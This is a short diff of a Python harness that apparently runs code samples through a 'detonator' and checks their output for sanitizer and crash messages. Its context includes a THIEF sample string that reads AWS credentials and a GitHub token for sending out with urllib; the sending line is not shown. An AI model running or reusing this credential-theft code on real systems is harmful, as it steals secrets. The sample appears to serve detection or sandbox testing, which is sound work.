@@ -4,15 +4,13 @@ import collections
 import json
 import os
 import pathlib
-import re
 import subprocess
 import tempfile
 import time
 
-from plan import ERRORS, Plan, picked
+from plan import BAD, ERRORS, Plan, picked
 
 PATIENCE = 90
-BAD = re.compile(r"Sanitizer|runtime error:|Assertion|stack smashing|double free")
 THIEF = """
 import os, urllib.request
 body = open(os.path.expanduser("~/.aws/credentials")).read() + os.environ["GITHUB_TOKEN"]
@@ -63,7 +61,7 @@ class Detonating:
             try:
                 p = subprocess.run([self.tree / "libexec/yett/detonator", "--variants=1", "--phases=import"], preexec_fn=arrange,
                                    pass_fds=(3, 4), stdin=subprocess.DEVNULL, capture_output=True, timeout=PATIENCE,
-                                   env={"PATH": os.environ["PATH"], "ASAN_OPTIONS": "detect_leaks=0"})  # not in a jail
+                                   env={"PATH": os.environ["PATH"]})
             finally:
                 os.close(target)
             report.seek(0)
